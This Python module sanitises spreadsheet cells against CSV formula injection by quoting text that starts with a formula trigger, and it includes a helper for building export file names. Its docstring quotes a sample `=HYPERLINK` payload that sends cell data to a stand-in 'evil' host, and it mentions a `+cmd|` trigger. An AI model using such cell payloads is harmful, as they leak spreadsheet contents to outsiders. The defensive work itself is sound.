"""Spreadsheet cells that cannot run as formulas (CSV / formula injection).

A spreadsheet program opening a CSV (or an XLSX cell holding a string) treats text starting with
`=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a candidate named
`=HYPERLINK("http://evil/?"&A1)` would run in the lead's spreadsheet. OWASP's rule: prefix such a
cell with a single quote, which the program shows as text and never evaluates.

Numbers stay numbers: an int or float, or a string that is nothing but a plain decimal number
(`-3`, `+1.5`, `2e-3`), cannot hold a formula, and quoting it would turn a negative score into text
that no longer sums. Anything else starting with a trigger (`-1+2`, `-A1`, `+cmd|...`) is quoted.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet cell that cannot be a formula.

    None, bools and numbers are returned unchanged; a string starting with a formula trigger gets
    a leading `'` unless it is a plain decimal number. Other values are returned as they are.
    """
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: list[object]) -> list[object]:
    """Every cell of a row through safe_cell."""
    return [safe_cell(v) for v in values]


_NOT_NAME = re.compile(r"[^\w]+")


def file_stem(title: str, fallback: str = "team") -> str:
    """A part of an exported file's name made from a title people gave ("Alpha team" -> "Alpha-team",
    "二组 / 夜班" -> "二组-夜班"): letters and digits of any script kept, everything else one "-",
    at most 40 characters; `fallback` when nothing is left. Never an id."""
    stem = _NOT_NAME.sub("-", title).strip("-_")[:40].strip("-_")
    return stem or fallback
